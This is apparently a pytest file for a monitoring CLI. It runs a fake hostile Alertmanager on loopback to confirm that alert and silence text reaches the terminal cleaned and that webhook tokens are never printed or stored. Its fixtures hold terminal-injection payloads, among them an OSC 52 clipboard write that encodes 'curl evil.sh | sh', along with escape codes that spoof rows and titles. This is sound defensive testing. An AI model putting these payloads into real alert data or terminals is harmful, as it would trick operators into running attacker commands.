"""A hostile Alertmanager (and a webhook that echoes its path), as a small responder on loopback.

Anyone who can post an alert or a silence to the site's Alertmanager writes text that reaches the
operator's terminal: escape codes (colours, a cleared screen, a retitled window, an OSC 52
clipboard write), C1 controls, bidi overrides and line breaks that forge rows. The CLI prints
none of it; the console gets the same cleaned rows (the text is cleaned where it is parsed). A
webhook's token is never printed or stored, even when its server echoes the path back. A real
Alertmanager stores what it is given but cannot be made to answer an error with a chosen body, so
the responder plays it.
"""

from __future__ import annotations

import contextlib
import json
import sqlite3
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from tests.alerts.test_webhook import DATASETS, GB, rounds, services
from tests.loopback_http import LoopbackHTTPServer, serve
from tui.cli import main

#: What must never reach the terminal: ESC, BEL, C1 CSI/OSC/ST, bidi overrides and isolates, CR.
FORBIDDEN = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\u202e", "\u2066", "\u2067", "\r")
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "curl evil.sh | sh" into the clipboard
EVIL = f"{CLIPBOARD}\x1b[2J\x1b]0;pwned\x07\x9b31mdisk \u202eok\u202c full\r\nFAKE-ROW all clear"
TOKEN = "xoxb-T0KEN-s3cret-9f8e7d6c5b4a"
TIME = "2026-12-01T10:00:00.000Z"


def alert(summary: str) -> dict[str, Any]:
    return {
        "labels": {"alertname": f"Disk{CLIPBOARD}Full", "node": "gpu-01", "severity": "critical\x1b[5m"},
        "annotations": {"summary": summary, "runbook": f"https://ops:hunter2@wiki.example/run?token={TOKEN}"},
        "startsAt": TIME,
        "endsAt": "2026-12-01T11:00:00.000Z",
        "updatedAt": TIME,
        "fingerprint": "abc123",
        "status": {"state": "active", "silencedBy": [], "inhibitedBy": []},
        "receivers": [{"name": "team\x1b[8m"}],
        "generatorURL": f"https://hooks.slack.com/services/T000/B000/{TOKEN}",
    }


SILENCE = {
    "id": "4a3c0d4e-0000-4000-8000-000000000000",
    "matchers": [{"name": "node", "value": f"gpu-01{CLIPBOARD}", "isRegex": False, "isEqual": True}],
    "startsAt": TIME,
    "endsAt": "2026-12-08T10:00:00.000Z",
    "updatedAt": TIME,
    "createdBy": "mallory\x1b]0;root@prod\x07",
    "comment": EVIL,
    "status": {"state": "active"},
}


class HostileAM:
    """Alertmanager's API v2 with hostile text; any POST is refused with the request path echoed
    (in the body and the reason phrase), as some webhook servers do."""

    def __init__(self) -> None:
        outer = self
        self.error_body: str | None = None

        class Handler(BaseHTTPRequestHandler):
            def _send(self, code: int, body: bytes, reason: str | None = None) -> None:
                self.send_response(code, reason)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                if outer.error_body is not None:
                    self._send(500, outer.error_body.encode())
                elif self.path.startswith("/api/v2/alerts"):
                    self._send(200, json.dumps([alert(EVIL)]).encode())
                elif self.path.startswith("/api/v2/silences"):
                    self._send(200, json.dumps([SILENCE]).encode())
                else:
                    self._send(404, b"{}")

            def do_POST(self) -> None:  # noqa: N802 - http.server's name
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self._send(404, f"no route for {self.path}\x1b[2J".encode(), reason=f"Not Found {self.path}")

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - http.server's name
                pass

        self.server = LoopbackHTTPServer(("127.0.0.1", 0), Handler)
        serve(self.server, "hostile-alertmanager")

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture
def hostile_am() -> Iterator[HostileAM]:
    am = HostileAM()
    yield am
    am.server.shutdown()
    am.server.server_close()


def config(tmp_path: Path, url: str) -> str:
    cfg = tmp_path / "lm.toml"
    cfg.write_text(
        f'[[nodes]]\nname = "gpu-01"\nhost = "127.0.0.1"\nport = 1\n\n[state]\ndir = "{tmp_path / "state"}"\n\n'
        f'[alerts]\nalertmanager_url = "{url}"\ntimeout = "3s"\n'
    )
    return str(cfg)


def clean(out: str) -> None:
    for bad in FORBIDDEN:
        assert bad not in out, f"{bad!r} reached the terminal: {out!r}"
    assert TOKEN not in out and "hunter2" not in out
    assert not any(line.startswith("FAKE-ROW") for line in out.splitlines()), "a line break forged a row"


@pytest.mark.parametrize(
    "argv", [["alerts"], ["alerts", "--json"], ["alerts", "silences"], ["alerts", "silences", "--json"]]
)
def test_alert_and_silence_text_reaches_the_terminal_clean(
    hostile_am: HostileAM, tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    assert main(["--config", config(tmp_path, hostile_am.url), *argv]) == 0
    out, err = capsys.readouterr()
    clean(out + err)
    shown = out if "--json" not in argv else json.dumps([json.loads(x) for x in out.splitlines()], ensure_ascii=False)
    # What the text says is still there, in one line.
    assert "disk ok full FAKE-ROW all clear" in shown
    if argv == ["alerts"]:
        [row] = [ln for ln in out.splitlines() if "gpu-01" in ln]
        assert row.split()[:3] == ["critical", "DiskFull", "gpu-01"]
    if argv == ["alerts", "silences"]:
        [row] = [ln for ln in out.splitlines() if ln.startswith(SILENCE["id"])]
        assert "mallory" in row and 'node="gpu-01"' in row


def test_an_error_from_alertmanager_is_one_clean_line_without_credentials(
    hostile_am: HostileAM, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile_am.error_body = f"upstream https://admin:hunter2@am.internal/api?token={TOKEN} failed\x1b]52;c;eA==\x07\nx"
    assert main(["--config", config(tmp_path, hostile_am.url), "alerts"]) == 2
    err = capsys.readouterr().err
    clean(err)
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("loadmaster: error: Alertmanager ")
    assert "https://admin:***@am.internal/api?token=***" in lines[0]


async def test_a_webhook_that_echoes_its_path_never_gets_its_token_printed_or_stored(
    hostile_am: HostileAM, tmp_path: Path
) -> None:
    db = tmp_path / "state.sqlite3"
    hook = f"{hostile_am.url}/services/T01/B02/{TOKEN}"
    svc = services(db, hook, budget=50.0)
    svc.egress.record_transfer(DATASETS, "coreweave:us-east-04", 1_100 * GB, job_id="j-1", note="")
    (r,) = await rounds(svc)
    assert r.delivery is not None and r.delivery.hook_error
    said = f"{r.delivery.hook_error} {r.degraded}"
    assert said.startswith(f"webhook {hostile_am.url}/... answered HTTP 404 no route for ***")
    clean(said)
    with contextlib.closing(sqlite3.connect(db)) as conn:
        [(stored,)] = conn.execute("SELECT last_error FROM alerts").fetchall()
    assert stored and stored.startswith("hook: webhook ") and TOKEN not in stored
    # Nothing anywhere in the state files holds the token (the table, the WAL, the audit log).
    for f in tmp_path.glob("state.sqlite3*"):
        assert TOKEN.encode() not in f.read_bytes(), f
